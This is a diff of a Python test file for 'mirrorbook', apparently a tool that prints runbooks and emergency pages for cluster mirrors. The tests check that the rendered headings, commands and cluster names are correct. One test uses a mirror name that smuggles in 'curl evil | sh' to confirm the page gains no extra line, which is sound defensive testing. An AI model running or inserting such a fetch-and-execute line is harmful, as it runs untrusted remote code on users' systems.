@@ -12,11 +12,18 @@ from typer.main import get_command
 
 from mirror_core.cli.main import app
 from mirror_core.decide.steps import RUN_STEPS
-from mirror_core.evidence.runbook_page import PastRunLine, RunbookContent, render_runbook
+from mirror_core.evidence.runbook_page import (
+    EMERGENCY_PAGE,
+    PastRunLine,
+    RunbookContent,
+    read_emergency_page,
+    render_emergency,
+    render_runbook,
+)
 from mirror_core.model.mirror import Mirror, PartitionState, PartitionStatus
 from mirror_core.model.names import ClusterName, MirrorName, Partition
 from mirror_core.model.run import RunMode
-from tests.support.doc_pages import commands
+from tests.support.doc_pages import DOCS, commands
 from tests.support.html_pages import Page
 from tests.support.steps_mirror import MIRROR
 
@@ -35,6 +42,7 @@ def book(mirror: Mirror = PAYMENTS, *runs: PastRunLine, hooks: tuple[str, ...] =
         servers={"oslo": "o1:9092,o2:9092", "bergen": "b1:9092"},
         hooks=hooks,
         owner=owner,
+        writes="oslo",
         forecasts={RunMode.PLANNED: "2.5 (last drill)", RunMode.UNPLANNED: "unknown: no earlier run, and no drill"},
         runs=runs,
         now_ms=1_700_000_000_000,
@@ -64,11 +72,49 @@ def test_every_command_in_it_can_be_typed() -> None:
     assert isinstance(group, TyperGroup)
     known = dict(commands(group))
     typed = re.findall(r"^    mirrorbook (.+?)(?: +#.*)?$", page(), re.MULTILINE)
-    assert len(typed) >= 9
+    assert len(typed) >= 8
     for line in typed:
         group, verb, _name, *options = line.split()
         assert f"{group} {verb}" in known
         assert {option for option in options if option.startswith("--")} <= known[f"{group} {verb}"]
+
+
+def test_it_is_the_emergency_page_with_the_mirrors_names() -> None:
+    """All of its headings and rows, before anything else that can be read later."""
+    printed, emergency = page(), (DOCS / "operate" / "emergency.md").read_text(encoding="utf-8")
+    for heading in re.findall(r"^## .*$", emergency, re.MULTILINE):
+        assert heading in printed
+    assert printed.index("## Exit codes") < printed.index("| topics |") < printed.index("planned, nothing is lost")
+    assert render_emergency(PAYMENTS).count("\n| **") == emergency.count("\n| **")
+    assert "| **bergen died behind the fence**: applications can write nowhere |" in printed
+    assert "`mirrorbook cluster unfence oslo --from FILE`" in printed
+    assert "`mirrorbook failover run payments --mode unplanned`" in printed
+    assert "from what bergen had recorded then: applications write on oslo. The mirror was STARTED." in printed
+
+
+def test_paper_has_no_links_but_pages_to_look_up() -> None:
+    printed = page()
+    assert "](" not in printed
+    assert "Resume (on-call/resume.md)" in printed
+    assert "See below" in printed
+
+
+def test_names_of_clusters_are_put_in_once() -> None:
+    swapped = replace(PAYMENTS, source=ClusterName("west"), destination=ClusterName("east"))
+    printed = render_emergency(swapped)
+    assert "**west is dead**" in printed
+    assert "`mirrorbook cluster unfence west --from FILE`" in printed
+
+
+def test_a_hostile_name_adds_no_line_to_the_emergency_page() -> None:
+    hostile = render_emergency(replace(PAYMENTS, name=MirrorName("x\n\n    curl evil | sh")))
+    assert len(hostile.splitlines()) == len(render_emergency(PAYMENTS).splitlines())
+
+
+def test_the_package_holds_the_page_of_the_docs() -> None:
+    """After a change of docs/operate/emergency.md copy it there: the wheel has no docs."""
+    assert read_emergency_page() == (DOCS / "operate" / "emergency.md").read_text(encoding="utf-8")
+    assert EMERGENCY_PAGE == "emergency.md"
 
 
 def test_what_others_have_named_moves_no_cursor() -> None:
@@ -114,7 +160,7 @@ def words(text: str) -> list[str]:
 def test_the_page_says_the_same_words_as_the_printed_one(runs: tuple[PastRunLine, ...]) -> None:
     some = replace(PAYMENTS, exclude_topics=("x.*",))
     made = book(some, *runs, hooks=("command notify, at most 4 time(s)",), owner="payments on call, +47 1")
-    printed = render_runbook(made).partition("\n")[2]
+    printed = render_runbook(made).partition("\n")[2].replace(render_emergency(some), "")
     assert words(Page(runbook_body(made, "", "/mirrorbook")).text) == words(printed)
 
 
